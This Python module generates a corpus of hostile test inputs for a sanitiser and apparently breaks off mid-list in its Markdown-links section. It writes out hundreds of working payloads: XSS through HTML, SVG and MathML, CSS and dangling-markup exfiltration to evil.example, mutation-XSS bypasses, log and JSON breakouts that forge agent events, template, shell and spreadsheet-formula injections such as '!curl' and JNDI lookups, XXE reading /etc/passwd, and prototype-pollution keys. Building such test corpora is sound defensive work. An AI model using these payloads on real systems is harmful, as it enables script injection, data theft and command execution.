"""List the hostile texts of the corpus, by kind: plain data, and seeds in wrappers, always in the same order.

``alert(1)`` is the canary of a script, ``evil.example`` that of a request. ``PAYLOADS`` has every payload with its
kind, each text once; ``CUT`` names those that are cut at every character. docs/reliability.md has the counts.
"""

# ruff: noqa: RUF001 - letters that look like others are an attack of their own

from __future__ import annotations

import base64
import os
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from html import escape
from itertools import product
from typing import Final, NamedTuple

__all__ = ["CUT", "KINDS", "PAYLOADS", "SAMPLE", "Payload", "counts", "every", "of_kind"]

X: Final = "alert(1)"
EVIL: Final = "https://evil.example"


class Payload(NamedTuple):
    """Hold one hostile text and its kind."""

    kind: str
    text: str


def _lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line]


def _words(text: str) -> list[str]:
    return text.split(" ")


# HTML


def raw_html() -> Iterator[str]:
    """Yield elements that run, load, cover or send something."""
    yield from _lines(
        f"""
<script>{X}</script>
<SCRIPT>{X}</SCRIPT>
<ScRiPt >{X}</sCrIpT >
<script/x>{X}</script>
<script type=module>{X}</script>
<script type="text/javascript">{X}</script>
<script>{X}
<script>{X}//
<script>/*</script><script>*/{X}</script>
<script>var a=`</script><script>{X}//`</script>
<scr<script>ipt>{X}</scr</script>ipt>
<<script>{X}//<</script>
<script defer>{X}</script>
<script nomodule>{X}</script>
<script nonce=a>{X}</script>
<script src=data:,{X}></script>
<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>
<script src=//evil.example/x.js></script>
<script src={EVIL}/x.js async></script>
<script type=importmap>{{"imports":{{"a":"{EVIL}/a.js"}}}}</script>
<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/s"]}}]}}</script>
<iframe src=javascript:{X}></iframe>
<iframe srcdoc="<script>{X}</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.{X}&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<script>parent.{X}</script>"></iframe>
<iframe/onload={X}>
<frameset onload={X}><frame src={EVIL}></frameset>
<object data=javascript:{X}></object>
<object type=text/html data="data:text/html,<script>{X}</script>"></object>
<embed src=javascript:{X}>
<embed type="image/svg+xml" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<applet code=x archive={EVIL}/x.jar></applet>
<form action=javascript:{X}><button>go</button></form>
<form id=f></form><button form=f formaction=javascript:{X}>go</button>
<isindex action=javascript:{X} type=image>
<input type=image src={EVIL}/x formaction=javascript:{X}>
<input type=hidden name=csrf value=x>
<input autofocus onfocus={X}>
<select autofocus onfocus={X}><option>a</select>
<textarea autofocus onfocus={X}></textarea>
<keygen autofocus onfocus={X}>
<button onclick={X} style=position:fixed;inset:0>x</button>
<label for=x>a</label><input id=x type=password name=password>
<base href={EVIL}/>
<base target=_top href=javascript:{X}//>
<meta http-equiv=refresh content="0;url=javascript:{X}">
<meta http-equiv=set-cookie content="a=b">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta charset=utf-7>+ADw-script+AD4-{X}+ADw-/script+AD4-
<link rel=stylesheet href="data:text/css,*{{display:none}}">
<link rel=import href="data:text/html,<script>{X}</script>">
<title>changed by the agent</title>
<html><head><title>changed</title></head><body onload={X}>
<body onload={X}>
<body background=javascript:{X}>
<template><script>{X}</script></template>
<template shadowrootmode=open><script>{X}</script></template>
<slot name=a></slot><portal src={EVIL}></portal>
<noscript><img src=x onerror={X}></noscript>
<noembed><img src=x onerror={X}></noembed>
<noframes><img src=x onerror={X}></noframes>
<xmp><img src=x onerror={X}></xmp>
<plaintext><script>{X}</script>
<listing>&lt;img onerror={X} src=x&gt;</listing>
<marquee onstart={X}>x</marquee>
<bgsound src=javascript:{X}>
<layer src={EVIL}/x></layer><ilayer src={EVIL}/x></ilayer>
<xml id=x src={EVIL}/x.xml></xml><?xml-stylesheet href="{EVIL}/x.xsl"?>
<?php echo {X} ?><%= {X} %><? {X} ?>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;
<![CDATA[<script>{X}</script>]]>
<!--[if gte IE 4]><script>{X}</script><![endif]-->
<!-- --><!--><img src=x onerror={X}>-->
<!--!><script>{X}</script-->
<dialog open style=position:fixed>Sign in<input name=user></dialog>
<div popover id=p onbeforetoggle={X}>x</div><button popovertarget=p>x</button>
<a id=x tabindex=1 onfocus={X}>x</a>
<div contenteditable onblur={X}>x</div>
<details open ontoggle={X}><summary>x</summary></details>
<div id=vibePages class="vibe jp-OutputArea" data-jp-suppress-context-menu>x</div>
<button data-commandlinker-command="notebook:run-cell" data-commandlinker-args='{{}}'>x</button>
<div class="jp-mod-trusted vibe-live"><b data-key=0>x</b></div>
<img name=getElementById><img name=cookie><form name=body><input name=parentNode></form>
<a href=//evil.example target=_blank ping=//evil.example/p rel=opener>x</a>
<map name=m><area shape=rect coords=0,0,999,999 href=javascript:{X}></map><img usemap=#m src=x>
<table background=javascript:{X}><tr><td background={EVIL}/b>x</table>
<font color=expression({X})>x</font><basefont><blink>x</blink>
<img src=x:x onerror={X}//
<image src=x onerror={X}>
<img src=x onerror={X}>
<IMG SRC=x ONERROR={X}>
<img/src=x/onerror={X}>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror="&#x61;lert&lpar;1&rpar;">
<img src=x onerror=\\u0061lert(1)>
<img src=`x` onerror=`{X}`>
<img """
        f'"""><script>{X}</script>">'
        f"""
</details></details></div></div><script>{X}</script>
</code></pre></td></tr></table><img src=x onerror={X}>
</summary></details><details open ontoggle={X}>
</textarea></title></style></noscript><script>{X}</script>
&lt;script&gt;{X}&lt;/script&gt;
&amp;lt;img src=x onerror={X}&amp;gt;
%3Cscript%3E{X}%3C/script%3E
\\x3cscript\\x3e{X}\\x3c/script\\x3e
\\u003cimg src=x onerror={X}\\u003e
\uff1cscript\uff1e{X}\uff1c/script\uff1e
+ADw-script+AD4-{X}+ADw-/script+AD4-
<custom-element onclick={X}>x</custom-element><x onclick={X}>y</x>
"""
    )
    yield f"<script>\n{X}\n</script>"
    yield f"<img\nsrc=x\nonerror\n=\n{X}>"
    yield f"<img\tsrc=x\tonerror={X}>"
    yield f"<img\x0csrc=x\x0conerror={X}>"
    yield f"<\x00script>{X}</script>"
    yield f"<script\x00>{X}</script>"
    yield f"<div>\n\n<script>{X}</script>\n\n</div>"


_HANDLERS: Final = _words(
    "abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut "
    "beforeinput beforematch beforepaste beforetoggle beforeunload begin blur bounce cancel canplay "
    "change click close contextmenu copy cuechange cut dblclick drag drop dragstart end ended error "
    "finish focus focusin formdata fullscreenchange gotpointercapture hashchange input invalid keydown "
    "keypress load loadstart message mousedown mouseenter mousemove mouseover mousewheel pageshow paste "
    "play pointerdown pointerover pointerrawupdate popstate progress repeat reset resize scroll scrollend "
    "search select show start storage submit toggle touchstart transitionend transitionrun unload "
    "webkitanimationstart wheel"
)
_HOSTS: Final = (
    "<img src=x on{}={}>",
    '<svg on{}="{}"><animate attributeName=x dur=1s></svg>',
    "<div tabindex=1 style='animation:x;transition:all 1s' on{}={}>x</div>",
    "<body on{}='{}'>",
    '<details open on{}="{}"><summary>x</summary></details>',
    "<video src=x on{}={}></video>",
    "<a href=# on{}={}>x</a>",
    '<input autofocus value=x on{}="{}">',
    "<marquee loop=1 on{}={}>x</marquee>",
    '<math><mi on{}="{}">x</mi></math>',
)


def event_attributes() -> Iterator[str]:
    """Yield every handler of an event, each in two elements."""
    for number, name in enumerate(_HANDLERS):
        yield _HOSTS[number % len(_HOSTS)].format(name, X)
        yield _HOSTS[(number + 3) % len(_HOSTS)].format(name.upper(), X)


def svg_mathml() -> Iterator[str]:
    """Yield attacks by SVG and MathML."""
    yield from _lines(f"""
<svg onload={X}>
<svg/onload={X}>
<svg><script>{X}</script></svg>
<svg><script href=data:,{X} /></svg>
<svg><script xlink:href={EVIL}/x.js></script></svg>
<svg><script>&#97;lert(1)</script></svg>
<svg><script>/*&lt;/script&gt;*/{X}</script></svg>
<svg><a xlink:href=javascript:{X}><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:{X} /><text y=20>x</text></a></svg>
<svg><a><set attributeName=xlink:href to=javascript:{X} /><text>x</text></a></svg>
<svg><animate onbegin={X} attributeName=x dur=1s>
<svg><animatetransform onbegin={X} attributeName=transform>
<svg><set onbegin={X} attributeName=x to=0>
<svg><discard onbegin={X}>
<svg><use href="data:image/svg+xml,<svg id=x><script>{X}</script></svg>#x"/></svg>
<svg><use xlink:href={EVIL}/s.svg#x></use></svg>
<svg><image href={EVIL}/i.png onload={X}></image></svg>
<svg><image xlink:href="javascript:{X}"/></svg>
<svg><feImage href={EVIL}/f.png /></svg>
<svg><foreignObject><iframe src=javascript:{X}></iframe></foreignObject></svg>
<svg><foreignObject><body onload={X}></foreignObject></svg>
<svg><foreignObject><img src=x onerror={X}></foreignObject></svg>
<svg><style>*{{background:url({EVIL}/c)}}</style></svg>
<svg><style><img src=x onerror={X}></style></svg>
<svg><title><img src=x onerror={X}></title></svg>
<svg><desc><script>{X}</script></desc></svg>
<svg><p><style><a id="</style><img src=x onerror={X}>">
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>{X}</handler></svg>
<svg><g filter="url({EVIL}/f.svg#a)" mask="url({EVIL}/m.svg)"><rect width=9 height=9 /></g></svg>
<svg><rect fill="url({EVIL}/p.svg#p)" width=9 height=9 /></svg>
<svg><cursor xlink:href={EVIL}/c.cur /></svg>
<svg><font-face><font-face-src><font-face-uri xlink:href={EVIL}/f /></font-face-src></font-face></svg>
<svg><metadata><script>{X}</script></metadata></svg>
<svg xmlns="http://www.w3.org/2000/svg"><script>{X}</script></svg>
<svg><switch><foreignObject><script>{X}</script></foreignObject></switch></svg>
<svg><mpath xlink:href={EVIL}/m /></svg>
<svg><tref xlink:href={EVIL}/t /></svg>
<svg><linearGradient id=x href={EVIL}/g /></svg>
<svg><view id=location><text id=title>x</text></svg>
<svg width=9999 height=9999 style=position:fixed;top:0><rect width=9999 height=9999 /></svg>
<svg><![CDATA[><img src=x onerror={X}>]]></svg>
<svg></p><style><a title="</style><img src onerror={X}>">
<math><mtext><script>{X}</script></mtext></math>
<math href=javascript:{X}>x</math>
<math><mi xlink:href=javascript:{X}>x</mi></math>
<math><maction actiontype="statusline#{EVIL}" xlink:href=javascript:{X}>x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror={X}></annotation-xml></math>
<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>{X}</script></annotation-xml></semantics></math>
<math><annotation encoding="text/html"><script>{X}</script></annotation></math>
<math><mglyph src={EVIL}/g.png><malignmark></math>
<math><mstyle mathbackground="url({EVIL}/b)"><mi>x</mi></mstyle></math>
<math><mi style="background:url({EVIL}/b)">x</mi></math>
<math><mpadded width=9999em height=9999em voffset=-9999em><mi>x</mi></mpadded></math>
<math><mspace width=99999em height=99999em></mspace></math>
<math><ms lquote="<script>" rquote="</script>">{X}</ms></math>
<math><mtable><mtr><mtd><img src=x onerror={X}></mtd></mtr></mtable></math>
<math><mtext><img src=x onerror={X}></mtext></math>
<math><mi><!--</mi><script>{X}</script>--></math>
<math><style><!--</style><img src=x onerror={X}>--></math>
<math><mo id=x name=cookie onclick={X}>x</mo></math>
<math><menclose notation="updiagonalstrike" href="vbscript:x"><mi>x</mi></menclose></math>
<math><mtext><svg><style><img src=x onerror={X}></style></svg></mtext></math>
<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="data:text/html,x">x</mtext></math>
<math><mfenced open="<script>" close="</script>"><mi>x</mi></mfenced></math>
<svg><math><mi><svg><script>{X}</script></svg></mi></math></svg>
""")


_SCHEMES: Final = (
    f"javascript:{X}",
    f"vbscript:{X}",
    f"data:text/html,<script>{X}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={X}>",
    "file:///etc/passwd",
)
_MORE_SCHEMES: Final = _words(
    "livescript:x mocha:x jar:https://evil.example/x!/y view-source:x chrome://settings about:blank "
    "blob:null/1 filesystem:https://evil.example/x ftp://evil.example/x ws://evil.example "
    "wss://evil.example tel:1 sms:1 ms-settings:x intent://x#Intent;end itms-services://x skype:x?call "
    "ssh://evil.example ldap://evil.example gopher://evil.example smb://evil.example/x vscode://x "
    "steam://run/1 facetime:1 mailbox:x wyciwyg://x resource://x feed:javascript:alert(1) "
    "x-javascript:alert(1) javascript://evil.example/%0aalert(1) //evil.example/x \\\\evil.example\\x "
    "/\\evil.example ///evil.example http:evil.example https:/evil.example ?a=b #vibe ../../x "
    "https://a.example@evil.example https://evil.example:443\\@a.example http://[::1]:8888/api "
    "http://127.0.0.1:8888/api http://169.254.169.254/latest/meta-data/ https://evil.example/%00 "
    "https://evil.example/?q=<script>alert(1)</script>"
)


def _disguises(url: str) -> Iterator[str]:
    scheme, colon, rest = url.partition(":")
    yield url
    yield f"{scheme.upper()}{colon}{rest}"
    yield f" \t\n{url}"
    yield f"\x01{url}"
    yield f"{scheme[:4]}\t{scheme[4:]}:{rest}"
    yield f"{scheme[:4]}\r\n{scheme[4:]}:{rest}"
    yield f"{scheme[:2]}\x00{scheme[2:]}:{rest}"
    yield f"{scheme}\t:{rest}"
    yield "".join(f"&#{ord(c)};" for c in scheme) + f":{rest}"
    yield f"&#x{ord(scheme[0]):x};{scheme[1:]}&colon;{rest}"
    yield f"{scheme}%3a{rest}"
    yield f"\u200b{url}"
    yield f"&Tab;{scheme[:3]}&NewLine;{scheme[3:]}&#0000058{rest}"


def urls() -> Iterator[str]:
    """Yield addresses that must not become links, plain and in the href of an element."""
    for scheme in _SCHEMES:
        yield from _disguises(scheme)
    yield from _MORE_SCHEMES
    for scheme in (*_SCHEMES, *_MORE_SCHEMES[:12]):
        yield f'<a href="{escape(scheme)}">x</a>'
    for disguise in _disguises(f"javascript:{X}"):
        yield f'<a href="{disguise}">x</a>'


def css() -> Iterator[str]:
    """Yield styles that load, run, cover or hide something."""
    values = _lines(f"""
background:url({EVIL}/u)
background:url(javascript:{X})
background-image:image-set("{EVIL}/i" 1x)
background:-webkit-image-set(url({EVIL}/w) 1x)
background:cross-fade(url({EVIL}/a),url({EVIL}/b),50%)
width:expression({X})
width:exp/**/ression({X})
behavior:url({EVIL}/x.htc)
-moz-binding:url({EVIL}/x.xml#a)
list-style:url({EVIL}/l)
list-style-image:url({EVIL}/l)
cursor:url({EVIL}/c),auto
content:url({EVIL}/c)
border-image:url({EVIL}/b) 1
filter:url({EVIL}/f#a)
clip-path:url({EVIL}/c#a)
mask:url({EVIL}/m)
shape-outside:url({EVIL}/s)
src:url({EVIL}/s)
offset-path:url({EVIL}/o#a)
position:fixed;inset:0;z-index:99999;background:#fff
position:absolute;top:-999px
position:sticky;top:0
display:none!important
margin:-9999px
margin-left:-100vw;width:200vw
transform:scale(99)
font-size:9999px
opacity:0
pointer-events:none
animation:x 1s;transition:all 1s
--x:url({EVIL}/v);background:var(--x)
background:\\75\\72\\6c({EVIL}/e)
background:u/**/rl({EVIL}/c)
background:url(\\"{EVIL}/q\\")
color:red;}}*{{display:none
text-align:center;background:url({EVIL}/t)
text-align:url({EVIL}/t)
margin:url({EVIL}/m)
list-style-type:"x";background:url({EVIL}/l)
list-style-type:url({EVIL}/l)
""")
    for number, value in enumerate(values):
        host = ("div", "li", "td", "th", "p", "span", "a")[number % 7]
        yield f'<{host} style="{value}">x</{host}>'
        yield f"<style>body{{{value}}}</style>"
    yield from _lines(f"""
<style>@import url({EVIL}/i.css)</style>
<style>@import "{EVIL}/i.css" layer(x);</style>
<style>@import'//evil.example/i'</style>
<style>@font-face{{font-family:x;src:url({EVIL}/f)}}*{{font-family:x}}</style>
<style>@namespace url({EVIL}/n)</style>
<style>@document url({EVIL}/d){{*{{display:none}}}}</style>
<style>@media all{{body{{display:none}}}}</style>
<style>@keyframes x{{from{{background:url({EVIL}/k)}}}}*{{animation:x 1s}}</style>
<style>input[value^=a]{{background:url({EVIL}/a)}}</style>
<style>:root{{--jp-layout-color0:url({EVIL}/v)}}</style>
<style>.vibe{{display:none}}.jp-Cell{{position:fixed}}</style>
<style>@charset "utf-7";+ADw-script+AD4-</style>
<style media=all onload={X}>x</style>
<style type=text/javascript>{X}</style>
<style><!--</style><script>{X}</script>--></style>
<style>*{{x:"</style><img src=x onerror={X}>"}}</style>
<link rel="stylesheet" href="{EVIL}/l.css" onload={X}>
<link rel="alternate stylesheet" href=data:text/css,*{{display:none}}>
}}</style><script>{X}</script>
*/</style><img src=x onerror={X}>/*
""")


def dangling_markup() -> Iterator[str]:
    """Yield markup that is never closed: it would take the text after it along."""
    yield from _lines(f"""
<img src='{EVIL}/?
<img src="{EVIL}/?
<img src={EVIL}/?
<a href='{EVIL}/?
<a href="{EVIL}/?x
<a target='
<base target='
<form action='{EVIL}/?'><textarea name=x>
<form action={EVIL}><option>
<input type=hidden name=x value='
<button formaction='{EVIL}/?
<iframe src='{EVIL}/?
<iframe srcdoc='
<meta http-equiv=refresh content='0;url={EVIL}/?
<link rel=stylesheet href='{EVIL}/?
<object data='{EVIL}/?
<embed src='{EVIL}/?
<table background='{EVIL}/?
<style>@import '{EVIL}/?
<style>*{{background:url({EVIL}/?
<script>/*
<script src='{EVIL}/?
<textarea>
<title>
<xmp>
<noscript>
<plaintext>
<template>
<select><option>
<svg><style>
<math><annotation-xml>
<!--
<![CDATA[
<?
<!
</
<
<a
<a href
<img src=x onerror={X}
<script
""")


def mutation() -> Iterator[str]:
    """Yield the families of texts that a sanitiser lets through, and that change their meaning when parsed again."""
    yield from _lines(f"""
<noscript><p title="</noscript><img src=x onerror={X}>">
<svg></p><style><a id="</style><img src=1 onerror={X}>">
<svg><style><img src=x onerror={X}></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={X}&gt;">
<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img src=1 onerror={X}&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror={X}>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={X} src>">
<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={X} src=1>">
<svg><annotation-xml><foreignobject><style><!--</style><p id="--!&gt;&lt;img src='x' onerror='{X}'&gt;">
<math><annotation-xml encoding="text/html"><style><p id="</style><img src=x onerror={X}>">
<table><td><math><mtext></td></table><style></math><img src=x onerror={X}></style>
<p><svg><p><style><!--</style><img src=x onerror={X}>-->
<img src="x` `<script>{X}</script>"` `>
<img alt="`><script>{X}</script>" src=x>
<a title="--!><img src=x onerror={X}>">x</a><!--
<a href="x" title="</a><img src=x onerror={X}>">x</a>
<textarea><img title="</textarea><img src=x onerror={X}>">
<title><a title="</title><img src=x onerror={X}>">
<xmp><p title="</xmp><svg/onload={X}>">
<noembed><p title="</noembed><img src=x onerror={X}>">
<noframes><p title="</noframes><img src=x onerror={X}>">
<iframe><p title="</iframe><img src=x onerror={X}>">
<plaintext><p title="</plaintext><img src=x onerror={X}>">
<template><p title="</template><img src=x onerror={X}>">
<select><template><style><!--</style><a rel="--></style></template></select><img onerror={X} src>">
<select><iframe></select><img src=x onerror={X}>
<svg><title><style><img title="</style><img src=x onerror={X}>"></title></svg>
<svg><desc><noscript><p title="</noscript><img src=x onerror={X}>"></desc></svg>
<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;{X}>"></style>
<svg><font color><img src=x onerror={X}></font></svg>
<math><font size><img src=x onerror={X}></font></math>
<math></br><style><img src=x onerror={X}></style>
<svg></br><script>{X}</script>
<table><a href="javascript:{X}"><td>x</table>
<table><svg><tr><style><img title="</style><img src=x onerror={X}>">
<b><table><tr><i><script>{X}</script></table></b>
<a><table><a href=javascript:{X}>x
<nobr><nobr><nobr><script>{X}</script>
<h1><h2><p><table><caption><svg onload={X}>
<dl><dt><dd><form><form><input name=attributes><input name=nodeName onfocus={X}>
<form id=x><input name=children><input name=innerHTML><input name=remove></form>
<details><summary><details open ontoggle={X}><summary></summary></details>
<ruby><rt><script>{X}</script></rt></ruby>
<dir><menu><listing><img src=x onerror={X}></listing>
<image><svg><image href=x onerror={X}>
<svg><a><noscript></a><style><!--</style></noscript><img src=x onerror={X}>-->
<div id="1&#10;<img src=x onerror={X}>">
<div title=`a>b<img src=x onerror={X}>`>
<div =><img src=x onerror={X}>="">
<div/"<img src=x onerror={X}>">
<a/href="x"/title="'"><img/src="x"/onerror={X}>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">{X}</x:script>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">{X}</svg:script>
<html:img src=x onerror={X} xmlns:html="http://www.w3.org/1999/xhtml">
""")
    for depth in (20, 200, 600):
        yield "<div>" * depth + f"<script>{X}</script>"
        yield "<b><i>" * depth + f"<img src=x onerror={X}>"
        yield "<svg><foreignObject>" * depth + f"<img src=x onerror={X}>"


_LOADS: Final = """
<img src=URL>
<img srcset="URL 1x, URL?2 2x">
<img lowsrc=URL dynsrc=URL>
<img src=x longdesc=URL>
<img loading=lazy src=URL crossorigin referrerpolicy=unsafe-url>
<picture><source srcset=URL><img src=URL?p></picture>
<link rel=stylesheet href=URL>
<link rel=prefetch href=URL>
<link rel=preload as=image href=URL>
<link rel=modulepreload href=URL>
<link rel=prerender href=URL>
<link rel=preconnect href=URL>
<link rel=dns-prefetch href=URL>
<link rel=icon href=URL>
<link rel=apple-touch-icon href=URL>
<link rel=manifest href=URL>
<link rel=search href=URL>
<link rel=pingback href=URL>
<object data=URL></object>
<object classid=URL codebase=URL></object>
<embed src=URL>
<iframe src=URL></iframe>
<iframe src=about:blank name=URL></iframe>
<frame src=URL>
<form action=URL method=post><input name=a value=b><button>x</button></form>
<button formaction=URL>x</button>
<input type=image src=URL>
<meta http-equiv=refresh content=0;url=URL>
<base href=URL>
<video poster=URL></video>
<video src=URL autoplay></video>
<audio src=URL autoplay></audio>
<video><source src=URL><track src=URL default></video>
<style>@import url(URL)</style>
<style>body{background:url(URL)}</style>
<div style=background:url(URL)>x</div>
<a href=URL ping=URL>x</a>
<area href=URL ping=URL>
<script src=URL></script>
<script>import('URL')</script>
<script>fetch('URL');new Image().src='URL';navigator.sendBeacon('URL')</script>
<script>new WebSocket('wss://evil.example')</script>
<html manifest=URL>
<body background=URL>
<table background=URL><td background=URL>x</table>
<svg><image href=URL></svg>
<svg><use href=URL#x></svg>
<math><mglyph src=URL></math>
<blockquote cite=URL>x</blockquote><q cite=URL>x</q><del cite=URL>x</del>
<bgsound src=URL>
<applet archive=URL></applet>
<command icon=URL>
<isindex action=URL>
<xml src=URL></xml>
<?xml-stylesheet href="URL"?>
<portal src=URL></portal>
<fencedframe></fencedframe><script>document.querySelector('fencedframe').config='URL'</script>
<input list=x><datalist id=x><option value=URL></datalist>
<head profile=URL>
<div itemscope itemid=URL>x</div>
![x](URL)
![x](<URL>)
![x][r] [r]: URL
[![x](URL)](URL)
![x](URL "title")
<!--[if IE]><img src=URL><![endif]-->
"""


def remote_resources() -> Iterator[str]:
    """Yield every kind of request that markup makes, each to its own address."""
    for number, line in enumerate(_lines(_LOADS)):
        yield line.replace("URL", f"{EVIL}/r{number}").replace(" [r]:", "\n\n[r]:")
    for number, line in enumerate(_lines(_LOADS)[::4]):
        yield line.replace("URL", f"//evil.example/p{number}").replace(" [r]:", "\n\n[r]:")


def breakouts() -> Iterator[str]:
    """Yield texts that end the attribute, element or text in which a form might put them."""
    ends = ['"', "'", "`", ">", '">', "'>", "`>", '"/>', '" ', "' ", "&quot;>", "&#34;>", '\\">', "\\'>", "%22>", "]]>", "-->", "--!>", "*/"]  # fmt: skip
    tails = [f"<script>{X}</script>", f"<img src=x onerror={X}>", f"onmouseover={X} x="]
    yield from (f"{end}{tail}" for end, tail in product(ends, tails))
    yield from _lines(f"""
" autofocus onfocus={X} x="
' style='background:url({EVIL})' x='
" href="javascript:{X}" x="
" srcdoc="<script>{X}</script>" x="
" open ontoggle="{X}
" class="vibe-stop" data-x="
javascript:{X}//" onclick="{X}
</div></div></div><div class="vibe vibe-live">
</bdi></span></button><button class="vibe-stop">Stop</button>
</summary><summary onclick={X}>
</pre><pre onmouseover={X}>
</code><code onmouseover={X}>
</td></tr></table><table onmouseover={X}><tr><td>
</a><a href=javascript:{X}>
</strong></div><script>{X}</script><div><strong>
\\"><script>{X}</script>
""")


def script_closers() -> Iterator[str]:
    """Yield texts that end a script, a style or a JSON block of the page around them."""
    for close in (
        "</script>",
        "</SCRIPT>",
        "</script >",
        "</script/x>",
        "</script\n>",
        "</scr\u0131pt>",
        "<\\/script>",
    ):
        yield f"{close}<script>{X}</script>"
        yield f'{{"a": "{close}<img src=x onerror={X}>"}}'
    for name in (
        "style",
        "title",
        "textarea",
        "template",
        "noscript",
        "iframe",
        "xmp",
        "option",
        "svg",
        "math",
    ):
        yield f"</{name}><script>{X}</script>"
    yield from (
        f"<!--<script>{X}",
        f"<!--<script></script>--><script>{X}</script>",
        f"//--></script><script>{X}",
    )


def json_breakers() -> Iterator[str]:
    """Yield texts that break the JSON or the lines of a log, a stream or a recording."""
    for mark in ("\u2028", "\u2029", "\u0085", "\n", "\r", "\r\n", "\x0b", "\x0c", "\x1e", "\x00"):
        yield f"a{mark}{X}//"
        yield f'"}}{mark}{{"type":"run_finished","agent_id":"a","run_id":"r"}}'
        yield f"x{mark}data: {{}}{mark}{mark}event: gap{mark}data: {{}}"
    yield from _lines(f"""
"}}]}});{X};//
\\"}});{X};//
\\u0022,"type":"tool_finished","x":"
{{"type":"run_started","agent_id":"evil","run_id":"evil"}}
[1,2,{{"$ref":"#"}},null,NaN,Infinity,-0]
{{"a":1,"a":2}}
{{"__class__":"os.system","py/object":"os.system"}}
\\ud83d\\ude00\\ud800
1e999999
""")


def templates() -> Iterator[str]:
    """Yield texts that a template language, a shell, a spreadsheet or a formatter would run."""
    yield from _lines(f"""
{{{{constructor.constructor('{X}')()}}}}
{{{{7*7}}}}{{{{config}}}}
{{{{''.__class__.__mro__[1].__subclasses__()}}}}
{{% import os %}}{{{{os.popen('id').read()}}}}
{{{{{{x}}}}}}
${{{X}}}
${{{{<%[%'"}}}}%\\
`${{{X}}}`
#{{{X}}}
<%= {X} %>
<%- include('/etc/passwd') %>
[[${{T(java.lang.Runtime).getRuntime().exec('id')}}]]
${{jndi:ldap://evil.example/a}}
$(id)
`id`
; id #
| id
&& id
%s%s%s%n
%(agent_id)s %(password)s
{{0.__class__}}
{{agent.__init__.__globals__}}
{{!r}}{{:>999999999}}
=cmd|'/c calc'!A1
+1+1+cmd|' /C calc'!A0
@SUM(1+1)*cmd|'/c calc'!A0
-2+3+cmd|' /c calc'!A0
=HYPERLINK("{EVIL}","x")
%env SECRET=1
!curl {EVIL}
%%bash
%load_ext evil
get_ipython().system('id')
<div ng-app ng-csp>{{{{$eval.constructor('{X}')()}}}}</div>
<div v-html="'<img src=x onerror={X}>'"></div>
<div x-data x-init="{X}"></div>
<div hx-get={EVIL} hx-trigger=load></div>
<button onclick_="{X}" data-bind="click:{X}">x</button>
@@@{{-x-}}@@@ {{%raw%}} {{#if}}
__VIBE__ {{title}} {{body}} {{0}}
""")


def prototype_keys() -> Iterator[str]:
    """Yield names that JavaScript or Python objects have already."""
    yield from _words(
        "__proto__ constructor prototype toString valueOf hasOwnProperty isPrototypeOf __defineGetter__ "
        "__defineSetter__ __lookupGetter__ toJSON then length name caller arguments __class__ __init__ "
        "__dict__ __globals__ __reduce__ model_config model_fields __pydantic_extra__ self cls agent_id type "
        "id seq columns rows total parts children key innerHTML outerHTML cookie location document window "
        "parent top"
    )
    yield from _lines("""
{"__proto__": {"polluted": 1}}
{"constructor": {"prototype": {"polluted": 1}}}
{"__proto__": null, "columns": ["__proto__"], "rows": [["__proto__"]], "total": 1}
__proto__[polluted]=1
constructor.prototype.polluted
__proto__.polluted
["__proto__", "polluted"]
""")


# Markdown


def markdown_links() -> Iterator[str]:
    """Yield links, autolinks and references that lead elsewhere than a link may."""
    for scheme in _SCHEMES:
        safe = scheme.replace("<", "%3C").replace(">", "%3E")
        for disguise in _disguises(safe):
            yield f"[x]({disguise})"
    for scheme in (_SCHEMES[0], _SCHEMES[1], _SCHEMES[3], *_MORE_SCHEMES[:14]):
        yield f"[x](<{scheme}> 'title')"
        yield f"[r]\n\n[r]: {scheme}"
        yield f"<{scheme}>"
    yield from _lines(f"""
[x](javascript:{X} "title")
[x](javascript:{X} 'a" onmouseover="{X}')
[x]( javascript:{X} )
[x](\\javascript:{X})
[x](javascript\\:{X})
[x](javascript&colon;{X})
[x](&#x6A&#x61;vascript:{X})
[x](https://a.example "x\\" onmouseover=\\"{X}")
[x](https://a.example" onmouseover="{X})
[x](https://a.example/<script>{X}</script>)
[<img src=x onerror={X}>](https://a.example)
[<img src=x onerror={X}>](javascript:{X}
[![x](javascript:{X})](javascript:{X})
[a](b) [c](javascript:{X}) [d][e] [e]: x
[x](<javascript:{X}>)
[x](<java&#9;script:{X}>)
<a.b+c:{X}>
<https://a.example/<script>{X}</script>
<https://a.example/"onmouseover="{X}>
https://a.example/"onmouseover="{X}
https://a.example/<script>{X}</script>
https://a.example/javascript:{X}
www.a.example"onclick="{X}
www.evil.example/`<script>{X}</script>`
a@b.example"onclick="{X}
<a@b.example?subject=<script>>
mailto:a@b.example?cc=x%0aBcc:y
xmpp:a@b.example javascript:{X} ftp://evil.example/x
[x]: javascript:{X}
[x]: <javascript:{X}> "title"
[x][y][z] [y]: vbscript:x
[^x]: [y](javascript:{X}) [^x]
[[wiki|javascript:{X}]]
[x](https://a.example){{onclick={X}}}
[x](https://a.example){{:onclick="{X}"}}
